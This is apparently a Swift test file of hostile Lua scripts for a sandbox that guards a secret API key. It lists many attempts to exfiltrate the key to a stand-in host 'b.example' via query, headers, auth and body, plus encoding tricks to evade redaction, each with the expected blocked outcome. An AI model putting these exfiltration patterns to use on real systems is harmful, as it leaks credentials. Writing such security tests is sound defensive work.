import Providers
import Standards

extension HostileScript {
  private static let key = "k3y/s3cret"

  /// Attempts to learn a secret, or to send it where it may not go.
  static let spying = [
    HostileScript("T55 concat", "return 'x' .. ctx.opt.app_key", .error("secret")),
    HostileScript("T55 length", "return #ctx.opt.app_key", .error("secret")),
    HostileScript("T55 less", "return ctx.opt.app_key < 'm'", .error("secret")),
    HostileScript("T55 index", "return ctx.opt.app_key[1]", .error("secret")),
    HostileScript("T55 call", "return ctx.opt.app_key()", .error("secret")),
    HostileScript(
      "T55 key of a table",
      "local t = { [ctx.opt.app_key] = 1 } return t",
      .error("table key")
    ),
    HostileScript("T55 tostring", "return tostring(ctx.opt.app_key)", .text("<secret app_key>")),
    HostileScript(
      "T55 format",
      "return ('%s|%10s'):format(ctx.opt.app_key, ctx.opt.app_key)",
      .text("<secret app_key>|<secret app_key>")
    ),
    HostileScript("T55 equal", "return tostring(ctx.opt.app_key == 'k3y/s3cret')", .text("false")),
    HostileScript(
      "T55 rawequal",
      "return tostring(rawequal(ctx.opt.app_key, 'k3y/s3cret'))",
      .text("false")
    ),
    HostileScript("T55 in an error", "error(ctx.opt.app_key)", .error("secret", or: "userdata")),
    HostileScript(
      "T55 gsub",
      "return (('x'):gsub('x', ctx.opt.app_key))",
      .error("string/function/table")
    ),
    HostileScript(
      "T55 gsub callback",
      "return (('x'):gsub('x', function() return ctx.opt.app_key end))",
      .error("invalid replacement value")
    ),
    HostileScript(
      "T55 as a metatable",
      "setmetatable({}, ctx.opt.app_key)",
      .error("takes a table and a table or nil")
    ),
    HostileScript(
      "T55 as extras",
      "return { access = 'a', extras = { k = ctx.opt.app_key } }",
      .text(nil)
    ),
    HostileScript(
      "T55 in a prompt",
      "ctx.prompt(ctx.opt.app_key)",
      .error("takes text, or { text = …, secret = true }, not secret")
    ),
    HostileScript(
      "T55 in fail",
      "ctx.fail('network', ctx.opt.app_key)",
      .failure(.network, "network")
    ),
    HostileScript("T56 query", spy("query = { k = ctx.opt.app_key }"), .unbound),
    HostileScript("T56 form", spy("method = 'POST', form = { k = ctx.opt.app_key }"), .unbound),
    HostileScript(
      "T56 json",
      spy("method = 'POST', json = { { k = { ctx.opt.app_key } } }"),
      .unbound
    ),
    HostileScript("T56 header", spy("headers = { ['X-K'] = ctx.opt.app_key }"), .unbound),
    HostileScript("T56 auth", spy("auth = ctx.opt.app_key"), .unbound),
    HostileScript("T56 basic", spy("auth = { basic = { 'me', ctx.opt.app_key } }"), .unbound),
    HostileScript(
      "T56 scheme",
      spy("auth = { scheme = 'Token', value = ctx.opt.app_key }"),
      .unbound
    ),
    HostileScript(
      "T56 digest",
      spy("query = { k = ctx.hash.sha1(ctx.opt.app_key) }"),
      .failure(.hostNotAllowed, "is not bound to b.example")
    ),
    HostileScript(
      "T56 digest of a digest",
      spy("query = { k = ctx.hash.md5(ctx.hash.sha1({ 'a', ctx.opt.app_key })) }"),
      .failure(.hostNotAllowed, "is not bound to b.example")
    ),
    HostileScript(
      "T56 as body",
      spy("method = 'POST', body = ctx.opt.app_key"),
      .error("body must be text")
    ),
    HostileScript("T56 as URL", "ctx.http.get(ctx.opt.app_key)", .error("not secret")),
    HostileScript("T56 as path", "ctx.http.get(ctx.opt.base / ctx.opt.app_key)", .error("secret")),
    HostileScript(
      "T56 as a browser's query",
      "ctx.browser.authorize { url = ctx.opt.base, query = { state = 's', k = ctx.opt.app_key } }",
      .error("a secret cannot be part of a browser's URL")
    ),
    HostileScript(
      "an echo, in five spellings",
      """
      local r = ctx.http.get(ctx.opt.base)
      for _, name in ipairs { "plain", "percent", "lower", "hex", "base64", "basic", "json" } do
        assert(not r.body:find("s3cret") and r.json[name]:find("<secret app_key>", 1, true), name)
      end
      return "hidden"
      """,
      .text("hidden"),
      requests: 1
    ) {
      let plain = Array(key.utf8)
      let spellings = [
        ("plain", key), ("percent", "k3y%2Fs3cret"), ("lower", "k3y%2fs3cret"),
        ("hex", Hex.encode(plain)), ("base64", Base64.encode(plain)),
        ("basic", Base64.encode(Array("me:".utf8) + plain)), ("json", #"k3y\/s3cret"#),
      ]
      let members = spellings.map { #""\#($0.0)":"\#($0.1)""# }
      return FakeEffects(json: "{\(members.joined(separator: ","))}")
    },
    HostileScript(
      "a guess, confirmed by another host's echo",
      """
      local r = ctx.http.post { url = "https://b.example/echo", json = { guess = "k3y/" .. "s3cret" } }
      return tostring(r.body:find("<secret", 1, true))
      """,
      .text("nil"),
      requests: 1,
      effects: { FakeEffects { HTTPResponse(status: 200, body: $0.body) } }
    ),
    HostileScript(
      "a guess, confirmed by a caught failure",
      """
      local _, why = pcall(ctx.fail, "network", "k3y/" .. "s3cret")
      return tostring(tostring(why):find("<secret", 1, true))
      """,
      .text("nil")
    ),
    HostileScript(
      "a guess, confirmed by a caught complaint",
      """
      local _, why = pcall(ctx.fail, "k3y/" .. "s3cret")
      return tostring(tostring(why):find("<secret", 1, true))
      """,
      .text("nil")
    ),
    HostileScript(
      "a guess, confirmed by a request that fails",
      """
      local _, why = pcall(ctx.http.get, "https://b.example/k3y/" .. "s3cret")
      return tostring(tostring(why):find("<secret", 1, true))
      """,
      .text("nil"),
      requests: 1,
      effects: { FakeEffects { _ in throw ScriptEffectError(.network, "no connection") } }
    ),
    HostileScript(
      "a guess, confirmed by a token's claims",
      // {"alg":"none"} and {"x":"k3y/s3cret"}
      "return tostring(ctx.jwt.claims('eyJhbGciOiJub25lIn0.eyJ4IjoiazN5L3MzY3JldCJ9.AA').x:find('<secret', 1, true))",
      .text("nil")
    ),
    HostileScript(
      "a guess, written to the log",
      "ctx.log('k3y/' .. 's3cret') print('k3y/' .. 's3cret') return 'said'",
      .text("said")
    ),
    HostileScript(
      "an own secret in an error",
      "error('it is k3y/' .. 's3cret')",
      .error("it is <secret app_key>")
    ),
    HostileScript(
      "its Base64 in an error",
      "error('it is azN5L3MzY3JldA==')",
      .error("it is <secret app_key>")
    ),
    HostileScript(
      "as the provider's code",
      "ctx.fail('network', 'x', 'k3y/' .. 's3cret')",
      .failure(.network, "x")
    ),
  ]

  private static func spy(_ fields: String) -> String {
    "ctx.http.request { url = 'https://b.example/', \(fields) }"
  }
}

extension HostileScript.End {
  static let unbound = Self.failure(.hostNotAllowed, "secret 'app_key' is not bound to b.example")
}
